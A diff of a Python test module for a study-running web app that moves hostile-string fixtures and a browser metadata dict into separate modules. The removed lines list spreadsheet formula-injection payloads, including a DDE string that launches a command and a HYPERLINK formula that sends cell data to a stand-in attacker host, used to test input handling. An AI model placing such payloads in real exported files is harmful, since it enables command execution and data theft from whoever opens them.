@@ -48,6 +48,8 @@ from studies.api.serializers import MAX_HIDDEN_MS, ClientInfo
 from studies.models import AuditLog, ExclusionEvent, Participant, Recruitment, Response, Study, Trial
 from studies.services import launch as lifecycle
 from tests import factories
+from tests.api.test_client_info import BROWSER
+from tests.hostile_strings import FORMULAS, UNSTORABLE
 
 # negative_data_rejection is left out on purpose: DRF fields coerce like scalars (a detail of
 # 0 is stored as "0", an rt_ms of "850" read as 850.0), which the contract does not forbid.
@@ -81,16 +83,6 @@ FUZZ = settings(
 
 # ---- hostile strings -----------------------------------------------------------------------
 
-UNSTORABLE = ["\ud800", "a\udfffb", "\x00", "a\x00b"]
-FORMULAS = [
-    "=1+1",
-    "+1+cmd|' /C calc'!A0",
-    "@SUM(A1:A9)",
-    "-2+3",
-    "\t=1+1",
-    "\r=1",
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-]
 HOSTILE = UNSTORABLE + FORMULAS
 # `preview` values that are not the admin's signed link: each must skip no rule.
 PREVIEWS = ["", "   ", "garbage", "a:b:c"]
@@ -443,21 +435,6 @@ def test_consent_holding_hostile_strings_is_taken_only_when_valid_and_storable(e
 def trial_on_screen(entered):
     assert entered.consent().status_code == 200
     return entered.next().json()["trial"]
-
-
-# As static/js/trial/main.js sends it, toggled explanation included.
-BROWSER = {
-    "dpr": 2.625,
-    "viewport": [412, 915],
-    "displayed": [224, 224],
-    "natural": [224, 224],
-    "scaled": False,
-    "sha256_checked": True,
-    "input": "touch",
-    "hidden_ms": 0,
-    "hidden_count": 0,
-    "explanation_views": [{"open_ms": 812, "close_ms": 1904}, {"open_ms": 2500, "close_ms": None}],
-}
 
 
 @HOSTILE_BODIES
